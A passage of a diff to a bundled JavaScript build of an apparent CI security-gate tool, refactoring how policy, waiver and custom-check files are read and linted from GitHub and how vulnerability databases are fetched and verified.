+    return files.ok ? { ok: true, value: { files: files.value, left: sorted.length - wanted.length } } : files;
+}
+/** The texts of plain files of a reasonable size; `known` ones, by the sha of their blob, are not asked for. */
+async function fetchTexts(entries, known, blob) {
+    const answers = await Promise.all(entries.map(async (entry) => [entry, await remote_files_textOf(entry, known, blob)]));
     const files = new Map();
     for (const [{ path, sha }, answer] of answers) {
         if (!answer.ok)
             return answer;
         files.set(path, { sha, ...(answer.value === undefined ? {} : { text: answer.value }) });
     }
-    return { ok: true, value: { files, left: sorted.length - wanted.length } };
+    return { ok: true, value: files };
 }
 /** The policy comes first, so that no crowd of waivers pushes it out. */
 const rank = ({ path }) => (isWaiverFile(path) ? 1 : 0);
 async function remote_files_textOf(entry, known, blob) {
-    if (isClosed(entry) || (entry.size ?? 0) > mostBytes)
+    if (remote_folder_isClosed(entry) || (entry.size ?? 0) > remote_files_mostBytes)
         return { ok: true, value: undefined };
     const text = known.get(entry.sha);
     if (text !== undefined)
@@ -62968,7 +62218,7 @@ async function remote_files_textOf(entry, known, blob) {
     const answer = await blob(entry.sha);
     if (!answer.ok)
         return answer;
-    return { ok: true, value: answer.value.byteLength > mostBytes ? undefined : decoder.decode(answer.value) };
+    return { ok: true, value: answer.value.byteLength > remote_files_mostBytes ? undefined : decoder.decode(answer.value) };
 }
 /** As files of the working tree are read, byte order mark and all. */
 const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
@@ -62981,96 +62231,98 @@ const partsOf = (path) => path.split('/').filter((part) => part !== '');
 
 
 
-/**
- * The files of the custom checks that the policy of a commit names. The reader remembers the trees, so that only blobs are asked for:
- * with those of the policy and the waivers no more than fifty.
- */
-async function readRemoteChecks({ tree, blob }, commit, prefix, { checks }, { files }) {
-    if (checks.size === 0)
-        return { ok: true, value: { checks: [], problems: [] } };
-    const folder = await findFolder(tree, commit, [...partsOf(prefix), policy_folder_policyFolder], mostTrees);
+/** The check files below these folders at a commit, in the order of their paths. The reader remembers the trees. */
+async function listRemoteChecks({ tree }, commit, prefix, folders) {
+    if (folders.length === 0)
+        return { ok: true, value: [] };
+    const folder = await findFolder(tree, commit, [...partsOf(prefix), policyFolder], mostTrees);
     if (!folder.ok)
         return folder;
     const below = await entriesBelow(tree, folder.value);
     if (!below.ok)
         return below;
-    const all = below.value
-        .filter(({ path, type }) => type !== 'tree' && custom_checks_isCheckFile(checks.values(), `${policy_folder_policyFolder}/${path}`))
+    const wanted = sortedUnique(folders);
+    const found = below.value
+        .map((entry) => ({ ...entry, path: `${policyFolder}/${entry.path}` }))
+        .filter(({ path, type }) => type !== 'tree' && custom_checks_isCheckFile(wanted, path))
         .sort((a, b) => order_compareText(a.path, b.path));
-    const wanted = all.slice(0, Math.max(0, remote_files_mostFiles - files.size));
-    const answers = await Promise.all(wanted.map(async (entry) => [entry, await remote_files_textOf(entry, new Map(), blob)]));
-    const contents = new Map();
-    for (const [{ path }, answer] of answers) {
-        if (!answer.ok)
-            return answer;
-        contents.set(`${policy_folder_policyFolder}/${path}`, answer.value);
-    }
-    const decoded = custom_checks_decodeChecks({ checks }, contents);
-    const left = all.length - wanted.length;
-    const problems = left === 0 ? decoded.problems : [...decoded.problems, tooManyChecks(left)];
-    return { ok: true, value: { checks: decoded.checks, problems } };
+    return { ok: true, value: found };
+}
+/** The files of the custom checks of a commit, at most so many of them; `known` ones, by the sha of their blob, are not asked for again. */
+async function readRemoteChecks(reader, commit, prefix, folders, most) {
+    const listed = await listRemoteChecks(reader, commit, prefix, [...folders.values()]);
+    if (!listed.ok)
+        return listed;
+    const wanted = listed.value.slice(0, Math.max(0, most));
+    const files = await fetchTexts(wanted, new Map(), reader.blob);
+    if (!files.ok)
+        return files;
+    return { ok: true, value: { files: files.value, left: listed.value.length - wanted.length } };
 }
 
-;// CONCATENATED MODULE: ./build/js/flow/policy/found-policy.js
+;// CONCATENATED MODULE: ./build/js/flow/policy/remote-policy.js
 
-const found_policy_foundPolicy = (found) => ({
-    plan: planPart(found.layers),
-    trouble: [],
-    checks: [],
-    ...found,
+/** What a commit's policy and waiver files say. */
+function decodeRemote({ files, left }, reading) {
+    const decoded = decodePolicy(textsOf(files), reading);
+    if (left === 0)
+        return decoded;
+    return { ...decoded, origin: { ...decoded.origin, problems: [...decoded.origin.problems, tooMany(left)] } };
+}
+const textsOf = (files) => new Map([...files].map(([path, { text }]) => [path, text]));
+const tooMany = (left) => ({
+    code: 'WAIVER_INVALID',
+    sentence: `There are too many policy and waiver files: ${left} of them ${left === 1 ? 'was' : 'were'} not read.`,
+    hint: 'Keep several waivers in one file: a file may hold a list.',
 });
 
-;// CONCATENATED MODULE: ./build/js/flow/policy/lint-change.js
+;// CONCATENATED MODULE: ./build/js/flow/policy/change/gate-files.js
 
-
-
-
-
-/** More than this nobody reads at once. */
-const mostMistakes = 50;
 /**
- * What a change does to the policy and waiver files: which ones count only after the merge, and the mistakes that it brings. Those
- * block, since merged they would break the gate for everybody; a mistake that was there before does not. Paths are told from the root
- * of the repository.
+ * The folders that the policy of a change names. Where it is not understood, they are those of the base: nothing may hide behind a
+ * mistake.
  */
-function lintChange(base, head, { prefix, named }, names) {
-    const pending = sortedUnique([...base.files.keys(), ...head.files.keys()]).filter((path) => base.files.get(path)?.sha !== head.files.get(path)?.sha);
-    const before = new Set(mistakesIn(base, names).map(lint_change_keyOf));
-    const broken = mistakesIn(head, names)
-        .filter((mistake) => pending.includes(mistake.path) || !before.has(lint_change_keyOf(mistake)))
-        .slice(0, mostMistakes);
-    const fromRoot = (path) => (prefix === '' || path === named ? path : `${prefix}/${path}`);
-    const moved = broken.map((mistake) => ({ ...mistake, path: fromRoot(mistake.path) }));
-    return {
-        ...(pending.length === 0 ? {} : { pending: pending.map(fromRoot) }),
-        ...(moved.length === 0 ? {} : { broken: moved }),
-    };
+function foldersOf(paths, head, base) {
+    if (head.origin.layer === 'repository')
+        return head.policy.checks;
+    return [...paths].some((path) => !isWaiverFile(path)) ? base.policy.checks : new Map();
 }
-/** A folder that is too much for GitHub to list would keep everybody's policy from being read. */
-const unlistable = {
-    broken: [
-        {
-            path: policy_folder_policyFolder,
-            line: 1,
-            column: 1,
-            sentence: 'There are too many files here for GitHub to list.',
-            hint: 'Leave only the policy, the waivers and the checks in it.',
-        },
-    ],
-};
-function mistakesIn({ files, left }, names) {
+
+;// CONCATENATED MODULE: ./build/js/flow/policy/change/mistakes.js
+
+
+
+
+
+
+
+/** Everything wrong in the gate's own files, in the order of their places. */
+function mistakesIn({ own: { files, left }, ...checks }, names) {
     const opened = [...files].flatMap(([path, { text }]) => (text === undefined ? [] : [[path, text]]));
-    const [waivers, policies] = [
-        opened.filter(([path]) => isWaiverFile(path)),
-        opened.filter(([path]) => !isWaiverFile(path)),
-    ];
+    const waivers = opened.filter(([path]) => isWaiverFile(path));
+    const policies = opened
+        .filter(([path]) => !isWaiverFile(path))
+        .map(([path, text]) => ({ path, ...readPolicy(text, names) }));
+    const rules = policies[0]?.policy?.waiverRules;
     return [
-        ...policies.flatMap(([path, text]) => readPolicy(text, names).problems.map((problem) => placed(path, problem))),
-        ...readWaivers(new Map(waivers), names).problems.map((problem) => placed(policy_folder_policyFolder, problem)),
-        ...[...files].flatMap(lint_change_cannotBeOpened),
-        ...(left === 0 ? [] : [tooMany(left)]),
+        ...policies.flatMap(({ path, problems }) => problems.map((problem) => placed(path, problem))),
+        ...readWaivers(new Map(waivers), names, rules).problems.map((problem) => placed(policyFolder, problem)),
+        ...[...files].flatMap(mistakes_cannotBeOpened),
+        ...(left === 0 ? [] : [mistakes_tooMany(left)]),
+        ...mistakesInChecks(checks),
     ].sort((a, b) => compareAll(order_compareText(a.path, b.path), a.line - b.line, a.column - b.column));
 }
+/** Nothing is run: a check of a change is code that nobody has reviewed. */
+const mistakesInChecks = ({ folders, checks }) => [...folders].flatMap(([tool, folder]) => {
+    const rules = tools_scanners.find((scanner) => scanner.tool === tool && scanner.checks !== undefined)?.checks;
+    return [...checks]
+        .filter(([path]) => custom_checks_isCheckFile([folder], path))
+        .flatMap(([path, file]) => {
+        const inFolder = path.slice(folder.length + 1);
+        const found = file.text === undefined ? undefined : rules?.mistakes(inFolder, file.text);
+        return found?.map((problem) => placed(path, problem)) ?? mistakes_cannotBeOpened([path, file]);
+    });
+});
 const placed = (path, { file = path, line, column, sentence, hint }) => ({
     path: file,
     line,
@@ -63078,7 +62330,7 @@ const placed = (path, { file = path, line, column, sentence, hint }) => ({
     sentence,
     ...(hint === undefined ? {} : { hint }),
 });
-const lint_change_cannotBeOpened = ([path, { text }]) => text !== undefined
+const mistakes_cannotBeOpened = ([path, { text }]) => text !== undefined
     ? []
     : [
         {
@@ -63089,68 +62341,168 @@ const lint_change_cannotBeOpened = ([path, { text }]) => text !== undefined
             hint: 'It has to be a plain file of at most 1 MiB; symbolic links and submodules are not followed.',
         },
     ];
-const tooMany = (left) => ({
-    path: policy_folder_policyFolder,
+const mistakes_tooMany = (left) => ({
+    path: policyFolder,
     line: 1,
     column: 1,
     sentence: `There are too many policy and waiver files: ${left} of them would not be read.`,
     hint: 'Keep several waivers in one file: a file may hold a list.',
 });
+
+;// CONCATENATED MODULE: ./build/js/flow/policy/change/lint-change.js
+
+
+
+/** More than this nobody reads at once. */
+const mostMistakes = 50;
+/**
+ * What a change does to the policy, the waivers and the custom checks: which files count only after the merge, and the mistakes that it
+ * brings. Those block, since merged they would break the gate for everybody; a mistake that was there before does not. Paths are told
+ * from the root of the repository.
+ */
+function lintChange(base, head, { prefix, named }, names) {
+    const [before, after] = [shasOf(base), shasOf(head)];
+    const pending = sortedUnique([...before.keys(), ...after.keys()]).filter((path) => before.get(path) !== after.get(path));
+    const known = new Set(mistakesIn(base, names).map(lint_change_keyOf));
+    const broken = mistakesIn(head, names)
+        .filter((mistake) => pending.includes(mistake.path) || !known.has(lint_change_keyOf(mistake)))
+        .slice(0, mostMistakes);
+    const fromRoot = (path) => (prefix === '' || path === named ? path : `${prefix}/${path}`);
+    const moved = broken.map((mistake) => ({ ...mistake, path: fromRoot(mistake.path) }));
+    return {
+        ...(pending.length === 0 ? {} : { pending: pending.map(fromRoot) }),
+        ...(moved.length === 0 ? {} : { broken: moved }),
+    };
+}
+const shasOf = ({ own, listed }) => new Map([...listed, ...[...own.files].map(([path, { sha }]) => [path, sha])]);
+/** A folder that is too much for GitHub to list would keep everybody's policy from being read. */
+const unlistable = {
+    broken: [
+        {
+            path: policyFolder,
+            line: 1,
+            column: 1,
+            sentence: 'There are too many files here for GitHub to list.',
+            hint: 'Leave only the policy, the waivers and the checks in it.',
+        },
+    ],
+};
 const lint_change_keyOf = (mistake) => JSON.stringify([mistake.path, mistake.line, mistake.sentence]);
 
-;// CONCATENATED MODULE: ./build/js/flow/policy/find-policy.js
-
-
-
-
-
-
-/**
- * DESIGN 6, "Where the policy is read", for a command line: the file that was named; else `origin/<default>` if it is known, so
- * that a change cannot loosen what it is judged by; else the working tree.
- * @throws GatehouseError POLICY_INVALID or TARGET_MISSING for a file that was named.
- */
-async function findPolicy(root, named, names, ports, { programs }) {
-    const { decoded, committed } = named === undefined
-        ? await findUsual(root, names, ports)
-        : { decoded: await readNamed(root, named, names, ports.files), committed: undefined };
-    const { policy, waivers, origin } = decoded;
-    const contents = committed ?? (await readCheckFolders(root, policy.checks.values(), ports.files));
-    const { checks: all, problems } = decodeChecks(policy, contents);
-    const { checks, problems: left } = programs ? { checks: all, problems: [] } : withoutPrograms(all);
-    const told = { ...origin, problems: [...origin.problems, ...problems, ...left] };
-    return foundPolicy({ layers: [{ layer: origin.layer, policy }], waivers, checks, origin: told });
+;// CONCATENATED MODULE: ./build/js/flow/policy/change/pending-waivers.js
+/** The sound waivers that a change brings: those that its base does not hold, word for word. One that only moved to another file is held. */
+function pendingWaivers(base, head) {
+    const held = new Set(base.map(pending_waivers_keyOf));
+    return head.filter((waiver) => !held.has(pending_waivers_keyOf(waiver)));
 }
-async function findUsual(root, names, { files, git }) {
-    const branch = await git.defaultBranch(root);
-    const committed = branch === undefined ? undefined : await git.show(root, branch, policyFolder);
-    const decoded = committed === undefined
-        ? decodePolicy(await readPolicyFolder(root, files), { where: 'the working tree', names })
-        : decodePolicy(committed, { where: branch ?? 'the default branch', names });
-    return { decoded, committed };
+const pending_waivers_keyOf = ({ id, match, reason, owner, expires }) => JSON.stringify([id, match, reason ?? null, owner ?? null, expires ?? null]);
+
+;// CONCATENATED MODULE: ./build/js/flow/policy/change/remote-change.js
+
+
+
+
+
+
+
+
+
+/** On pull_request and merge_group the commit of the run holds the change; pull_request_target runs on the base. */
+async function readChange(base, place, reader, { event, sha }) {
+    if (event !== 'pull_request' && event !== 'merge_group')
+        return {};
+    const own = await readRemoteFiles(reader, sha, place, textsBySha(base.own.files));
+    if (!own.ok && own.failure.kind === 'too-large')
+        return { lint: unlistable };
+    if (!own.ok)
+        return { problems: [unreadable(remote_change_what, own.failure)] };
+    const head = decodeRemote(own.value, { where: 'the change', names: policyNames });
+    const waivers = pendingWaivers(base.repository.waivers, head.waivers);
+    const folders = foldersOf(own.value.files.keys(), head, base.repository);
+    const checks = await readChecks(base, { commit: sha, own: own.value, folders }, place, reader);
+    if (!checks.ok)
+        return { waivers, problems: [unreadable(remote_change_what, checks.failure)] };
+    const { before, after, left } = checks.value;
+    return {
+        lint: lintChange(before, after, place, policyNames),
+        waivers,
+        ...(left === 0 ? {} : { problems: [notLinted(left)] }),
+    };
 }
-async function readNamed(root, path, names, files) {
-    const text = await files.readText(path).catch((cause) => {
-        throw new GatehouseError('TARGET_MISSING', `The policy file ${path} cannot be read.`, {
-            hint: 'Give the path of a policy file with --policy.',
-            cause,
-        });
+const remote_change_what = 'What this change does to the policy';
+/** Both trees are remembered, so that only blobs are asked for, and only those that the base has not; fifty for base and change together. */
+async function readChecks(base, head, { prefix }, reader) {
+    const folders = base.repository.policy.checks;
+    const all = [...folders.values(), ...head.folders.values()];
+    const before = await listRemoteChecks(reader, base.commit, prefix, all);
+    if (!before.ok)
+        return before;
+    const after = await listRemoteChecks(reader, head.commit, prefix, all);
+    if (!after.ok)
+        return after;
+    const known = new Map([...textsBySha(base.own.files), ...textsBySha(base.checks), ...textsBySha(head.own.files)]);
+    const wanted = after.value.filter(({ path }) => custom_checks_isCheckFile(head.folders.values(), path));
+    const spent = new Set([...base.own.files, ...base.checks, ...head.own.files].map(([, { sha }]) => sha)).size;
+    const fresh = wanted.filter(({ sha }) => !known.has(sha)).slice(0, Math.max(0, remote_files_mostFiles - spent));
+    const read = wanted.filter((entry) => known.has(entry.sha) || fresh.includes(entry));
+    const files = await fetchTexts(read, known, reader.blob);
+    if (!files.ok)
+        return files;
+    return {
+        ok: true,
+        value: {
+            before: { own: base.own, folders, checks: base.checks, listed: remote_change_shasOf(before.value) },
+            after: { own: head.own, folders: head.folders, checks: files.value, listed: remote_change_shasOf(after.value) },
+            left: wanted.length - read.length,
+        },
+    };
+}
+const remote_change_shasOf = (entries) => new Map(entries.map(({ path, sha }) => [path, sha]));
+const textsBySha = (files) => new Map([...files.values()].flatMap(({ sha, text }) => (text === undefined ? [] : [[sha, text]])));
+const notLinted = (left) => ({
+    code: 'CHECK_INVALID',
+    sentence: `This change brings so many custom checks that ${left} of them ${left === 1 ? 'was' : 'were'} not read.`,
+    hint: 'Look at them with `gatehouse check`.',
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/policy/found-policy.js
+
+const foundPolicy = (found) => ({
+    plan: planPart(found.layers),
+    trouble: [],
+    checks: [],
+    ...found,
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/policy/layered.js
+
+
+/** The default stands in for a policy only where nobody else has one. */
+function layered({ policy, waivers, origin }, organisation, { lint, waivers: pending = [], problems = [], trouble = [], checks = [] }) {
+    const own = { layer: origin.layer, policy };
+    const hasNone = origin.layer === 'default' && trouble.length === 0;
+    const layers = organisation === undefined
+        ? [own]
+        : [{ layer: 'organisation', policy: organisation.policy }, ...(hasNone ? [] : [own])];
+    const ignored = ignoredIn(layers);
+    return foundPolicy({
+        layers,
+        waivers,
+        ...(pending.length === 0 ? {} : { pendingWaivers: pending }),
+        checks,
+        trouble,
+        origin: {
+            ...origin,
+            ...(layers.length === 1 ? { layer: layers[0].layer } : {}),
+            ...(organisation === undefined ? {} : { organisation: organisation.origin }),
+            problems: [...origin.problems, ...problems],
+            ...(ignored.length === 0 ? {} : { ignored }),
+            ...lint,
+        },
     });
-    const policy = demandPolicy(text, path, names, 'Correct the policy file and run again.');
-    const { waivers, problems } = decodeWaivers(await readPolicyFolder(root, files), names);
-    return { policy, waivers, origin: { layer: 'repository', source: path, digest: digestOf(text), problems } };
-}
-/** @throws GatehouseError POLICY_INVALID, with the place of every mistake. */
-function demandPolicy(text, name, names, hint) {
-    const { policy, problems } = readPolicy(text, names);
-    if (policy !== undefined)
-        return policy;
-    const sentences = problems.map((problem) => [placedSentence(name, problem), problem.hint ?? ''].join(' ').trim());
-    throw new errors/* GatehouseError */.GA('POLICY_INVALID', sentences.join('\n'), { hint });
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/policy/organisation-policy.js
-
 
 
 const inputName = 'organisation-policy';
@@ -63167,12 +62519,29 @@ async function readOrganisationPolicy(given, workspace, names, files) {
     const isText = isPolicyText(input);
     const source = isText ? `the input ${inputName}` : input;
     const text = isText ? given : await organisation_policy_readFile(input, workspace, files);
-    const policy = demandPolicy(text, isText ? inputName : input, names, `Correct \`${inputName}\` in the workflow.`);
+    const policy = decode_policy_demandPolicy(text, isText ? inputName : input, names, `Correct \`${inputName}\` in the workflow.`);
     if (policy.checks.size > 0)
         throw checksOfNobody();
     return { policy, origin: { source, digest: decode_policy_digestOf(text) } };
 }
-const checksOfNobody = () => new errors/* GatehouseError */.GA('POLICY_INVALID', `\`${inputName}\` names a folder in \`checks\`, but it has no repository.`, {
+/**
+ * A file on the machine of somebody who wants to know what CI will say.
+ * @throws GatehouseError TARGET_MISSING or POLICY_INVALID, before anything runs.
+ */
+async function readOrganisationFile(path, names, files) {
+    const option = `--${inputName}`;
+    const text = await files.readText(path).catch((cause) => {
+        throw new GatehouseError('TARGET_MISSING', `The policy file ${path} cannot be read.`, {
+            hint: `Give the path of the organisation's policy with ${option}.`,
+            cause,
+        });
+    });
+    const policy = demandPolicy(text, path, names, 'Correct the policy file and run again.');
+    if (policy.checks.size > 0)
+        throw checksOfNobody(option);
+    return { policy, origin: { source: path, digest: digestOf(text) } };
+}
+const checksOfNobody = (name = inputName) => new errors/* GatehouseError */.GA('POLICY_INVALID', `\`${name}\` names a folder in \`checks\`, but it has no repository.`, {
     hint: "Take `checks` out of it: a repository's own policy names its own checks.",
 });
 const organisation_policy_readFile = (path, workspace, files) => files.readText(path.startsWith('/') ? path : `${workspace}/${path}`).catch((cause) => {
@@ -63204,58 +62573,6 @@ function policySource(context) {
 }
 const policy_source_branchOf = (ref) => ref.replace(/^refs\/heads\//, '');
 
-;// CONCATENATED MODULE: ./build/js/flow/policy/remote-policy.js
-
-/** What a commit's policy and waiver files say. */
-function decodeRemote({ files, left }, reading) {
-    const decoded = decode_policy_decodePolicy(remote_policy_textsOf(files), reading);
-    if (left === 0)
-        return decoded;
-    return { ...decoded, origin: { ...decoded.origin, problems: [...decoded.origin.problems, remote_policy_tooMany(left)] } };
-}
-const remote_policy_textsOf = (files) => new Map([...files].map(([path, { text }]) => [path, text]));
-const remote_policy_tooMany = (left) => ({
-    code: 'WAIVER_INVALID',
-    sentence: `There are too many policy and waiver files: ${left} of them ${left === 1 ? 'was' : 'were'} not read.`,
-    hint: 'Keep several waivers in one file: a file may hold a list.',
-});
-
-;// CONCATENATED MODULE: ./build/js/flow/policy/unreadable.js
-
-const causes = {
-    unauthenticated: 'there is no token that GitHub takes',
-    'no-permission': 'the token may not read the repository',
-    'feature-off': 'GitHub refuses it',
-    archived: 'GitHub refuses it',
-    'not-found': 'GitHub does not show it to this token',
-    'ref-gone': 'the branch or commit is gone',
-    invalid: 'GitHub refuses the request',
-    'too-large': 'it is too large',
-    'rate-limited': 'too many requests were made with this token',
-    unavailable: 'GitHub is in trouble',
-    'timed-out': 'GitHub did not answer in time',
-    unreachable: 'GitHub cannot be reached',
-    unexpected: "GitHub's answer is not understood",
-};
-const isAboutRights = (kind) => kind === 'unauthenticated' || kind === 'no-permission' || kind === 'not-found';
-/** Why a policy could not be asked for, which is not the same as having none. */
-function unreadable(what, failure) {
-    const { kind, message, needs = 'contents: read', retryAt } = failure;
-    const said = message === '' ? '' : ` (${message})`;
-    const hint = isAboutRights(kind)
-        ? `Give the job the permission \`${needs}\`, and this action the token of the job.`
-        : retryAt === undefined
-            ? 'Run again.'
-            : `Run again after ${retryAt}.`;
-    return { code: 'POLICY_UNREADABLE', sentence: `${what} could not be read: ${causes[kind]}${said}.`, hint };
-}
-/** Stands in for a policy that nobody could ask for. That one may enforce, so this one does. */
-const standIn = (what) => ({
-    policy: { ...defaultPolicy, mode: 'enforce' },
-    waivers: [],
-    origin: { layer: 'default', source: `${what} could not be read`, problems: [] },
-});
-
 ;// CONCATENATED MODULE: ./build/js/flow/policy/read-policies.js
 
 
@@ -63281,7 +62598,7 @@ async function readPolicies(request, { files }) {
     const reader = { tree: rememberTrees(github), blob: (sha) => github.blob(sha) };
     const source = policySource(context);
     const unread = (failure) => layered(standIn(whatOf(source)), organisation, { trouble: [unreadable(whatOf(source), failure)] });
-    const commit = await commitOf(source, github);
+    const commit = await read_policies_commitOf(source, github);
     if (!commit.ok)
         return unread(commit.failure);
     const base = await readRemoteFiles(reader, commit.value, place);
@@ -63293,49 +62610,17 @@ async function readPolicies(request, { files }) {
         ...(organisation === undefined ? {} : { instead: "The organisation's policy decides alone." }),
         names: policyNames,
     });
-    const custom = await readRemoteChecks(reader, commit.value, place.prefix, repository.policy, base.value);
+    const { policy } = repository;
+    const most = remote_files_mostFiles - base.value.files.size;
+    const custom = await readRemoteChecks(reader, commit.value, place.prefix, policy.checks, most);
     if (!custom.ok)
         return unread(custom.failure);
-    const change = await readChange(base.value, place, reader, context);
-    const problems = [...(change.problems ?? []), ...custom.value.problems];
-    return layered(repository, organisation, { ...change, problems, checks: custom.value.checks });
+    const { checks, problems } = decodeChecks(policy, textsOf(custom.value.files), custom.value.left);
+    const read = { commit: commit.value, own: base.value, repository, checks: custom.value.files };
+    const change = await readChange(read, place, reader, context);
+    return layered(repository, organisation, { ...change, problems: [...(change.problems ?? []), ...problems], checks });
 }
-/** On pull_request and merge_group the commit of the run holds the change; pull_request_target runs on the base. */
-async function readChange(base, place, reader, { event, sha }) {
-    if (event !== 'pull_request' && event !== 'merge_group')
-        return {};
-    const known = [...base.files.values()].flatMap(({ sha, text }) => (text === undefined ? [] : [[sha, text]]));
-    const head = await readRemoteFiles(reader, sha, place, new Map(known));
-    if (head.ok)
-        return { lint: lintChange(base, head.value, place, policyNames) };
-    if (head.failure.kind === 'too-large')
-        return { lint: unlistable };
-    return { problems: [unreadable('What this change does to the policy', head.failure)] };
-}
-/** The default stands in for a policy only where nobody else has one. */
-function layered({ policy, waivers, origin }, organisation, { lint, problems = [], trouble = [], checks = [] }) {
-    const own = { layer: origin.layer, policy };
-    const hasNone = origin.layer === 'default' && trouble.length === 0;
-    const layers = organisation === undefined
-        ? [own]
-        : [{ layer: 'organisation', policy: organisation.policy }, ...(hasNone ? [] : [own])];
-    const ignored = ignoredIn(layers);
-    return found_policy_foundPolicy({
-        layers,
-        waivers,
-        checks,
-        trouble,
-        origin: {
-            ...origin,
-            ...(layers.length === 1 ? { layer: layers[0].layer } : {}),
-            ...(organisation === undefined ? {} : { organisation: organisation.origin }),
-            problems: [...origin.problems, ...problems],
-            ...(ignored.length === 0 ? {} : { ignored }),
-            ...lint,
-        },
-    });
-}
-async function commitOf(source, github) {
+async function read_policies_commitOf(source, github) {
     switch (source.type) {
         case 'commit':
             return { ok: true, value: source.commit };
@@ -63364,7 +62649,7 @@ function read_policies_placeOf({ prefix = '', policyPath = '' }) {
     });
 }
 
-;// CONCATENATED MODULE: ./build/js/flow/scan/run-cache.js
+;// CONCATENATED MODULE: ./build/js/flow/scan/supply/run-cache.js
 
 /**
  * Opens the cache of a runner for `suppliesOf`: it is asked only for what is missing on the machine and needed by the plan, under a key
@@ -63560,7 +62845,7 @@ async function claimPartial(folder, sha256, ports) {
     for (const { name } of await ports.files.list(folder)) {
         if (!name.startsWith(`${sha256}.`) || !name.endsWith('.part'))
             continue;
-        if ((await ageOf(`${folder}/${name}`, ports)) < abandonedMs)
+        if ((await partial_ageOf(`${folder}/${name}`, ports)) < abandonedMs)
             continue;
         const isMine = await ports.files.rename(`${folder}/${name}`, mine).then(() => true, () => false);
         if (isMine)
@@ -63572,13 +62857,13 @@ async function claimPartial(folder, sha256, ports) {
 async function sweepLeftovers(folder, ports) {
     for (const { name } of await ports.files.list(folder).catch(() => [])) {
         const path = `${folder}/${name}`;
-        if (name.endsWith('.part') && (await ageOf(path, ports)) > forgottenMs) {
+        if (name.endsWith('.part') && (await partial_ageOf(path, ports)) > forgottenMs) {
             await ports.files.remove(path).catch(() => undefined); // Another run may be removing it.
         }
     }
 }
 /** Milliseconds since it changed; 0 when it is gone. */
-async function ageOf(path, ports) {
+async function partial_ageOf(path, ports) {
     const stat = await ports.files.stat(path);
     return stat === undefined ? 0 : ports.clock.now().getTime() - stat.mtimeMs;
 }
@@ -63743,7 +63028,7 @@ const parcelOf = ({ name, version, platform }, sha256, cache) => ({
     isPassing: true,
 });
 /** Fetches a parcel that is one file and checks its digest; any other is removed and told. `undefined` when there is none. */
-async function fetchFile(keeper, parcel, sha256, step, ports) {
+async function keeper_fetchFile(keeper, parcel, sha256, step, ports) {
     if (keeper === undefined || !(await keeper.fetch(parcel)))
         return undefined;
     const isFile = (await ports.files.stat(parcel.path).catch(() => undefined))?.type === 'file';
@@ -63864,12 +63149,12 @@ async function sweepDatabases(cache, keep, ports) {
 /** Far more than a database has had so far; what is larger is something else. */
 const mostPacked = 2 * 1024 ** 3;
 /** What a person sees. */
-const bring_database_step = 'vulnerability database';
+const step = 'vulnerability database';
 /** Brings the layer that a registry named into the cache, and unpacks it. */
 async function bringDatabase(layer, means, ports) {
     const { cache } = means;
     await bringLayer(layer, means, ports);
-    ports.progress.step(bring_database_step, 'moving', 'unpacking');
+    ports.progress.step(step, 'moving', 'unpacking');
     const unpacked = await unpackLayer(cache, layer.sha256, ports);
     if (unpacked !== undefined)
         return unpacked;
@@ -63887,9 +63172,9 @@ async function bringLayer(layer, { cache, patience, keeper }, ports) {
         path: layerFile(cache, sha256),
         isPassing: false,
     };
-    if ((await fetchFile(keeper, parcel, sha256, `check ${bring_database_step}`, ports)) !== undefined)
+    if ((await keeper_fetchFile(keeper, parcel, sha256, `check ${step}`, ports)) !== undefined)
         return;
-    const request = { url, headers, sha256, maxBytes: mostPacked, folder: `${cache}/downloads`, step: bring_database_step };
+    const request = { url, headers, sha256, maxBytes: mostPacked, folder: `${cache}/downloads`, step };
     const file = await download(request, ports, patience);
     await ports.files.makeDirectory(`${cache}/db`);
     await ports.files.rename(file, parcel.path);
@@ -64075,13 +63360,13 @@ async function fetchDatabase(ports, options = {}) {
     if (offline)
         return openOffline(cache, ports);
     const references = repositoriesOf(ports, options).map(readReference);
-    ports.progress.step(bring_database_step, 'started');
+    ports.progress.step(step, 'started');
     const attempts = [];
     const budgetFor = shareBudget(references.length, patience, ports);
     for (const [index, reference] of references.entries()) {
         try {
             const database = await fetchFrom(reference, budgetFor(index), means, ports);
-            ports.progress.step(bring_database_step, 'finished', `of ${database_metadata_dayOf(database.data.updated)} from ${database.origin}`);
+            ports.progress.step(step, 'finished', `of ${database_metadata_dayOf(database.data.updated)} from ${database.origin}`);
             return database;
         }
         catch (error) {
@@ -64126,13 +63411,13 @@ async function fallBack(attempts, cache, ports) {
     const said = attempts.map(({ sentence }) => sentence).join(' ');
     const cached = await openNewest(cache, ports);
     if (cached === undefined) {
-        ports.progress.step(bring_database_step, 'failed', said);
+        ports.progress.step(step, 'failed', said);
         throw new errors/* GatehouseError */.GA('DATABASE_MISSING', `No vulnerability database could be fetched. ${said}`, {
             hint: folderHint,
         });
     }
     const sentence = `The vulnerability database is the one of ${database_metadata_dayOf(cached.updated)} from the cache, since no registry gave a newer one. ${said}`;
-    ports.progress.step(bring_database_step, 'finished', sentence);
+    ports.progress.step(step, 'finished', sentence);
     return toDatabase(cached, 'cache', { kind: 'unavailable', sentence });
 }
 
@@ -64666,7 +63951,7 @@ async function fetchBuild(build, means, before, ports) {
 async function fetchKept(build, { keeper, lock, cache }, attempts, ports) {
     for (const origin of build.origins) {
         const parcel = parcelOf(build, origin.sha256, cache);
-        const file = await fetchFile(keeper, parcel, origin.sha256, `check ${build.name}`, ports);
+        const file = await keeper_fetchFile(keeper, parcel, origin.sha256, `check ${build.name}`, ports);
         if (file === undefined)
             continue;
         try {
@@ -65311,7 +64596,7 @@ async function fetchSet(place, means, before, ports) {
         const failed = await placeSet(place, means, before, ports);
         const manifest = await openSet(folder, ports);
         if (manifest === undefined)
-            throw explainAttempts(`${set.name} ${set.version}`, failed, hint);
+            throw explainAttempts(`${set.name} ${set.version}`, failed, python_set_hint);
         const because = failed.map(({ origin, sentence }) => `; ${origin}: ${sentence}`).join('');
         ports.progress.step(step, 'finished', `${set.version} by ${manifest.origin}${because}`);
         return startSet({ ...place, manifest, cache: means.cache, cached: false });
@@ -65321,7 +64606,7 @@ async function fetchSet(place, means, before, ports) {
         throw error;
     }
 }
-const hint = 'Look at the network and at the configuration of pip; Debian and Ubuntu: apt install python3-pip python3-venv.';
+const python_set_hint = 'Look at the network and at the configuration of pip; Debian and Ubuntu: apt install python3-pip python3-venv.';
 /** Installs into the cache; returns what failed before it was done. */
